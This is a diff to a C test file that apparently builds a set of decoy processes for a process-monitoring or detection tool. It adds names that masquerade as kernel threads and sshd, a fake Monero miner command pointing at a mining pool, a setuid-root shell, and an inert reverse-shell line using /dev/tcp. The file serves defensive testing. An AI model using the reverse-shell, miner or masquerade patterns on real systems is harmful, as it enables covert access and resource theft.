@@ -254,6 +254,97 @@ static void cmdline_one_empty(void)
 	run("/proc/self/exe", argv);
 }
 
+/* A program of the system, asleep. */
+static void system_program(void)
+{
+	const char *const argv[] = { "sleep", "1000000", NULL };
+
+	run("/usr/bin/sleep", argv);
+}
+
+static void kernel_name(void)
+{
+	const char *const argv[] = { "[kworker/0:1]", "1000000", NULL };
+
+	run("/usr/bin/sleep", argv);
+}
+
+/* As celery writes its own. */
+static void bracket_title(void)
+{
+	const char *const argv[] = {
+		"[celeryd: celery@host:MainProcess] -active- (worker)",
+		"1000000", NULL
+	};
+
+	run("/usr/bin/sleep", argv);
+}
+
+static void daemon_name(void)
+{
+	const char *const argv[] = { "/usr/sbin/sshd", "1000000", NULL };
+
+	run("/usr/bin/sleep", argv);
+}
+
+static void login_name(void)
+{
+	const char *const argv[] = { "-sleep", "1000000", NULL };
+
+	run("/usr/bin/sleep", argv);
+}
+
+static void miner(void)
+{
+	const char *const argv[] = { "zoo",
+				     "--sleep",
+				     "-o",
+				     "stratum+tcp://pool.minexmr.com:4444",
+				     "--donate-level=1",
+				     NULL };
+
+	run("/proc/self/exe", argv);
+}
+
+static void miner_reader(void)
+{
+	const char *const argv[] = { "grep", "--sleep", "-r",
+				     "stratum+tcp://pool.minexmr.com:4444",
+				     NULL };
+
+	run("/proc/self/exe", argv);
+}
+
+/* It waits for the end of the zoo's input, and then ends. */
+static void shell_payload(void)
+{
+	const char *const argv[] = {
+		"sh", "-c",
+		"read x; exit; bash -i >& /dev/tcp/127.0.0.1/9 0>&1", NULL
+	};
+
+	run("/bin/sh", argv);
+}
+
+static void shell_job(void)
+{
+	const char *const argv[] = { "sh", "-c", "read x; exit; make check",
+				     NULL };
+
+	run("/bin/sh", argv);
+}
+
+/* A shell that is root for a user who is not. */
+static void setuid_shell(void)
+{
+	const char *const argv[] = { "sh", "-p", "-c", "read x; exit", NULL };
+
+	if (setresuid(NOBODY, 0, 0))
+		_exit(2);
+	die_with_parent();
+	run("/bin/sh", argv);
+}
+
 static const struct kind {
 	const char *name;
 	void (*become)(void);
@@ -282,6 +373,16 @@ static const struct kind {
 	{ "cmdline_300k", cmdline_300k, 0, 1 },
 	{ "cmdline_odd", cmdline_odd, 0, 1 },
 	{ "cmdline_one_empty", cmdline_one_empty, 0, 1 },
+	{ "system_program", system_program, 0, 1 },
+	{ "kernel_name", kernel_name, 0, 1 },
+	{ "bracket_title", bracket_title, 0, 1 },
+	{ "daemon_name", daemon_name, 0, 1 },
+	{ "login_name", login_name, 0, 1 },
+	{ "miner", miner, 0, 1 },
+	{ "miner_reader", miner_reader, 0, 1 },
+	{ "shell_payload", shell_payload, 0, 1 },
+	{ "shell_job", shell_job, 0, 1 },
+	{ "setuid_shell", setuid_shell, 1, 1 },
 };
 #define NKINDS (sizeof(kinds) / sizeof(kinds[0]))
 
